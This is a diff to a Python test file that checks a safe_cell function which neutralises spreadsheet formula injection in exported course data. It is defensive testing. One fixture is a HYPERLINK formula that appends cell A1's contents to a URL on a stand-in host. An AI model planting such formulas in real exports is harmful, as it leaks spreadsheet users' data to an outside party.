@@ -17,10 +17,11 @@ from hscourse.project import load_course
 FORMULA = "=HYPERLINK(\"https://example.invalid/?\"&A1,\"click\")"
 
 
-@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+@pytest.mark.parametrize("cell", ["=1+1", "+1+A1", "-1-A1", "@SUM(A1)", "\tx", "\rx"])
 def test_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(cell: str) -> None:
     assert safe_cell(cell) == "'" + cell
     assert safe_cell("1–C, 2–A") == "1–C, 2–A" and safe_cell(3) == "3"
+    assert safe_cell("-1.5") == "-1.5" and safe_cell(-2) == "-2"  # marks stay numbers
 
 
 def test_an_accepted_answer_formula_is_neutralised_in_every_key(tmp_path: Path) -> None:
